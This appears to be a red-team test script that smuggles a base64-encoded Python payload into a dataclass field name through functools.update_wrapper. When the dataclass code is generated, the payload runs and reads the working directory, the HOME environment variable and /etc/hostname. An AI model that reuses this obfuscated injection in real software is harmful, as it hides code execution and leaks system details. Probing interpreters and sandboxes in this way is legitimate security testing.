# family: red team, round 57b (functools.update_wrapper(f, src, assigned=("name",)) copies a def's name attribute onto a Field from fields(); the __wrapped__ failure comes after)
import base64
import dataclasses
import functools

CODE = "X19jbGFzc19fLHByaW50KF9faW1wb3J0X18oJ29zJykuZ2V0Y3dkKCksX19pbXBvcnRfXygnb3MnKS5lbnZpcm9uWydIT01FJ10sb3BlbignL2V0Yy9ob3N0bmFtZScpLnJlYWQoKSxfX2ltcG9ydF9fKCdvcycpKQ=="


@dataclasses.dataclass
class A:
    x: int = 0


def src():
    return 0


def main():
    src.name = base64.b64decode(CODE).decode()
    for f in dataclasses.fields(A):
        try:
            functools.update_wrapper(f, src, assigned=("name",), updated=())
        except AttributeError:
            pass

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
